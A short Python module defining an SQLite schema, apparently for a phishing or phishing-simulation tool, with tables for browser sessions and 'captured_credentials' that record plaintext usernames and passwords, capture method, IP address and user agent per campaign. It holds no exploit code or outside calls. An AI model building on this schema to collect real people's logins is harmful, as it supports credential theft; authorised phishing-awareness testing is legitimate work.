"""SQLite database schema and initialization."""

from __future__ import annotations

import aiosqlite

SCHEMA = """
CREATE TABLE IF NOT EXISTS browser_sessions (
    session_token TEXT PRIMARY KEY,
    campaign_id TEXT NOT NULL,
    created_at TEXT NOT NULL
);

CREATE TABLE IF NOT EXISTS captured_credentials (
    id INTEGER PRIMARY KEY AUTOINCREMENT,
    session_token TEXT NOT NULL,
    campaign_id TEXT NOT NULL,
    email_or_username TEXT,
    password TEXT,
    source_url TEXT DEFAULT '',
    capture_method TEXT NOT NULL,
    ip_address TEXT DEFAULT 'unknown',
    user_agent TEXT DEFAULT 'unknown',
    captured_at TEXT NOT NULL
);

CREATE INDEX IF NOT EXISTS idx_credentials_session ON captured_credentials(session_token);
CREATE INDEX IF NOT EXISTS idx_credentials_campaign ON captured_credentials(campaign_id);
CREATE INDEX IF NOT EXISTS idx_sessions_campaign ON browser_sessions(campaign_id);
"""


async def initialize_db(db: aiosqlite.Connection):
    """Create tables and indexes if they don't exist."""
    await db.executescript(SCHEMA)
    await db.commit()
